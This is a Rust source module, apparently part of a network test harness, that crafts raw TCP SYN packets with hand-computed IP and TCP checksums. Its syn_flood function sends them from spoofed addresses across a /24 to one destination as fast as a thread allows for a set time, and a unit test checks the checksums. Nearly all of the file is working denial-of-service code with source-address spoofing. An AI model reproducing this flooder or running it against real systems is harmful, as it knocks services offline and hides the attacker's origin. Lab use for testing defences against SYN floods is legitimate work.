//! A raw-socket SYN sender: TCP SYNs from every address of a /24 (spoofed, IP_HDRINCL) to
//! one destination, as fast as one thread can, for a bounded time.

use std::{
    net::{Ipv4Addr, SocketAddr, SocketAddrV4},
    time::{Duration, Instant},
};

use socket2::{Domain, Protocol, Socket, Type};

fn sum16(data: &[u8], mut acc: u32) -> u32 {
    for c in data.chunks(2) {
        let w = if c.len() == 2 {
            u16::from_be_bytes([c[0], c[1]])
        } else {
            u16::from(c[0]) << 8
        };
        acc += u32::from(w);
    }
    acc
}

fn fold(mut acc: u32) -> u16 {
    while acc >> 16 != 0 {
        acc = (acc & 0xffff) + (acc >> 16);
    }
    !(acc as u16)
}

/// An IPv4 + TCP SYN packet (40 bytes) from `src:sport` to `dst:dport`.
pub fn syn_packet(src: Ipv4Addr, sport: u16, dst: Ipv4Addr, dport: u16, seq: u32) -> [u8; 40] {
    let mut p = [0u8; 40];
    p[0] = 0x45;
    p[2..4].copy_from_slice(&40u16.to_be_bytes());
    p[4..6].copy_from_slice(&(seq as u16).to_be_bytes());
    p[6] = 0x40; // DF
    p[8] = 64;
    p[9] = 6;
    p[12..16].copy_from_slice(&src.octets());
    p[16..20].copy_from_slice(&dst.octets());
    let ip_sum = fold(sum16(&p[..20], 0));
    p[10..12].copy_from_slice(&ip_sum.to_be_bytes());
    let t = &mut p[20..];
    t[0..2].copy_from_slice(&sport.to_be_bytes());
    t[2..4].copy_from_slice(&dport.to_be_bytes());
    t[4..8].copy_from_slice(&seq.to_be_bytes());
    t[12] = 5 << 4;
    t[13] = 0x02; // SYN
    t[14..16].copy_from_slice(&64240u16.to_be_bytes());
    let mut pseudo = [0u8; 12];
    pseudo[0..4].copy_from_slice(&src.octets());
    pseudo[4..8].copy_from_slice(&dst.octets());
    pseudo[9] = 6;
    pseudo[10..12].copy_from_slice(&20u16.to_be_bytes());
    let tcp_sum = fold(sum16(&p[20..], sum16(&pseudo, 0)));
    p[36..38].copy_from_slice(&tcp_sum.to_be_bytes());
    p
}

/// Sends SYNs from `net.1`..`net.254` to `dst` for `duration`; returns (sent, send errors).
/// Call on a thread inside the sending namespace.
pub fn syn_flood(
    net: [u8; 3],
    dst: SocketAddrV4,
    duration: Duration,
) -> std::io::Result<(u64, u64)> {
    let sock = Socket::new(
        Domain::IPV4,
        Type::RAW,
        Some(Protocol::from(libc::IPPROTO_RAW)),
    )?;
    let to: socket2::SockAddr = SocketAddr::V4(dst).into();
    let start = Instant::now();
    let (mut sent, mut errors) = (0u64, 0u64);
    let mut seq: u32 = 0x1234_5678;
    loop {
        for _ in 0..256 {
            seq = seq.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            let src = Ipv4Addr::new(net[0], net[1], net[2], 1 + (seq >> 24) as u8 % 254);
            let sport = 1024 + (seq as u16 % 60000);
            let p = syn_packet(src, sport, *dst.ip(), dst.port(), seq);
            match sock.send_to(&p, &to) {
                Ok(_) => sent += 1,
                Err(_) => errors += 1,
            }
        }
        if start.elapsed() >= duration {
            break;
        }
    }
    Ok((sent, errors))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn checksums_verify() {
        let p = syn_packet(
            Ipv4Addr::new(198, 19, 66, 7),
            40000,
            Ipv4Addr::new(198, 18, 0, 25),
            25,
            42,
        );
        assert_eq!(fold(sum16(&p[..20], 0)), 0, "IP header checksum");
        let mut pseudo = [0u8; 12];
        pseudo[0..4].copy_from_slice(&p[12..16]);
        pseudo[4..8].copy_from_slice(&p[16..20]);
        pseudo[9] = 6;
        pseudo[11] = 20;
        assert_eq!(fold(sum16(&p[20..], sum16(&pseudo, 0))), 0, "TCP checksum");
    }
}
